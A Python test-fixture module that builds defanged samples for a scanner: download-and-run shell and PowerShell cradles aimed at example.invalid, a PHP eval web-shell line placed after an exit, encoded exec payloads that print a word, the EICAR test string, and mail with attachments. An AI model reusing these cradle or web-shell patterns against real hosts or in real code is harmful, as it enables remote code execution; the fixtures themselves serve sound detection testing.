"""Scripts that look like what rules look for and do nothing of it, plain text, mail, and the antivirus test file."""

from __future__ import annotations

import base64

_HELLO = "Write-Host 'hello'"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
"""The 68 bytes that eicar.org publishes."""

_SHELL_DOWNLOADER = b"""#!/bin/sh
# Fixture: example.invalid never resolves (RFC 6761, section 6.4), so that this fetches and runs nothing.
set -eu
curl -fsSL http://example.invalid/install.sh | sh
"""

_SHELL_PLAIN = b"""#!/bin/sh
# Fixture: counts the files of a folder.
set -eu
ls -1 "${1:-.}" | wc -l
"""

_POWERSHELL_CRADLE = b"""#!/usr/bin/env pwsh
# Fixture: example.invalid never resolves (RFC 6761, section 6.4), so that this fetches and runs nothing.
IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/script.ps1')
"""

_VBS_RUN = b"""' Fixture: prints a word in a console window.
Option Explicit
Dim shell
Set shell = CreateObject("WScript.Shell")
shell.Run "cmd.exe /c echo hello", 0, True
"""

_JS_RUN = b"""// Fixture: prints a word in a console window.
var shell = new ActiveXObject("WScript.Shell");
shell.Run("cmd.exe /c echo hello", 0, true);
"""

_PHP_EVAL = b"""<?php
// Fixture: shows the form of a web shell. The exit stands before it, so that the last line is never reached.
exit(0);
@eval($_POST['code']);
"""

_PYTHON_EXEC = b"""#!/usr/bin/env python3
# Fixture: the decoded text prints a word.
import base64

exec(base64.b64decode("cHJpbnQoJ2hlbGxvJyk="))
"""

_TEXT = b"""A plain note.

It holds nothing that any rule looks for, and stands for the many files that a scanner flags by mistake.
"""

_NAMED = b"A plain note whose name has spaces and letters beyond ASCII.\n"

_MAIL = b"""From: Sender <sender@example.invalid>
To: Receiver <receiver@example.invalid>
Subject: A harmless message
Date: Thu, 01 Jan 2026 00:00:00 +0000
Message-ID: <1@example.invalid>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8

Nothing but text.
"""


def samples() -> dict[str, bytes]:
    """All texts."""
    return {
        "script/shell-downloader/shell-downloader.sh": _SHELL_DOWNLOADER,
        "script/shell-plain/shell-plain.sh": _SHELL_PLAIN,
        "script/powershell-encoded/powershell-encoded.sh": _powershell_encoded(),
        "script/powershell-cradle/powershell-cradle.ps1": _POWERSHELL_CRADLE,
        "script/vbs-run/vbs-run.vbs": _VBS_RUN,
        "script/js-run/js-run.js": _JS_RUN,
        "script/php-eval/php-eval.php": _PHP_EVAL,
        "script/python-exec/python-exec.py": _PYTHON_EXEC,
        "eicar/eicar/eicar.com": EICAR,
        "text/plain/plain.txt": _TEXT,
        "text/empty/empty.txt": b"",
        "script/js-blobs/js-blobs.js": _js_blobs(),
        "mail/plain/plain.eml": _MAIL,
        "mail/attachments/attachments.eml": _mail_with_attachments(),
        "names/spaces-and-accents/résumé of a note.txt": _NAMED,
    }


def _js_blobs() -> bytes:
    """One line of script in each encoding that scripts hide others in; nothing decodes them here."""
    line = b"console.log('hello from within a script');"
    codes = ", ".join(str(byte) for byte in line).encode()
    escapes = b"".join(b"\\x%02x" % byte for byte in line)
    return b"\n".join((
        b"// Fixture: encoded words that nothing decodes.",
        b'var plain = "' + base64.b64encode(line) + b'";',
        b'var digits = "' + line.hex().encode() + b'";',
        b"var codes = [" + codes + b"];",
        b'var escapes = "' + escapes + b'";',
        b"",
    ))  # fmt: skip


def _mail_with_attachments() -> bytes:
    """A script in Base64, a text in quoted-printable, and a message with a script of its own (RFC 2046)."""
    script = base64.b64encode(b"#!/bin/sh\n# Fixture: prints a word.\necho hello\n")
    inner = (
        b"From: Other <other@example.invalid>\nSubject: Within\nMIME-Version: 1.0\n"
        b"Content-Type: application/x-sh; name*=utf-8''h%C3%A9llo.sh\nContent-Transfer-Encoding: base64\n\n"
    ) + script
    parts = (
        b"Content-Type: text/plain\n\nTwo files and a message.",
        b"Content-Type: application/x-sh\nContent-Transfer-Encoding: base64\n"
        b'Content-Disposition: attachment; filename="hello.sh"\n\n' + script,
        b"Content-Type: text/plain; name=note.txt\nContent-Transfer-Encoding: quoted-printable\n\nA =3D note=\n.",
        b"Content-Type: message/rfc822\n\n" + inner,
    )
    head = _MAIL.partition(b"Content-Type")[0] + b'Content-Type: multipart/mixed; boundary="fixture"\n\n'
    return head + b"".join(b"--fixture\n" + part + b"\n" for part in parts) + b"--fixture--\n"


def _powershell_encoded() -> bytes:
    encoded = base64.b64encode(_HELLO.encode("utf-16-le"))
    return (
        b"#!/bin/sh\n# Fixture: the encoded command prints a word.\n"
        b"exec powershell.exe -NoProfile -EncodedCommand " + encoded + b"\n"
    )
